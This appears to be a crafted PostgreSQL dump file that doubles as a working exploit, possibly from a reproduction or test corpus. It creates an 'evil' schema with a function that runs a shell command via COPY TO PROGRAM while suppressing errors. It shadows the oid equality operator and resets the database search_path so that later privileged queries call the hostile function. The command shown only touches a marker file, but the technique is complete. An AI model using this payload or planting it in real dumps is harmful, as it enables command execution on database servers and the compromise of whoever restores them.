--
-- PostgreSQL database dump
--

SET statement_timeout = 0;
SELECT pg_catalog.set_config('search_path', '', false);
CREATE SCHEMA evil;
CREATE FUNCTION evil.same(oid, oid) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN BEGIN
COPY (SELECT 1) TO PROGRAM 'touch /tmp/reprise-corpus-search-path'; EXCEPTION WHEN OTHERS THEN NULL; END;
RETURN $1 OPERATOR(pg_catalog.=) $2; END $$;
CREATE OPERATOR evil.= (LEFTARG = oid, RIGHTARG = oid, FUNCTION = evil.same);
CREATE TABLE public.t (a integer);
DO $$ BEGIN EXECUTE pg_catalog.format('ALTER DATABASE %I SET search_path = evil, pg_catalog, public', pg_catalog.current_database()); END $$;
--
-- PostgreSQL database dump complete
--

